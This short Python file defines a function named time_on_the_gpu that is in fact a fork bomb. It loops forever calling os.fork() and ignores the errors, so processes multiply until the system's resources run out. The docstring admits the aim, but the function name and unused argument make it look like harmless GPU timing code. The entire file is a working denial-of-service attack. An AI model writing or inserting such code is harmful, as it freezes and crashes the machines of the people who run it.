"""Processes that make processes, as many as there can be."""

import os


def time_on_the_gpu(work):
    while True:
        try:
            os.fork()
        except OSError:
            pass
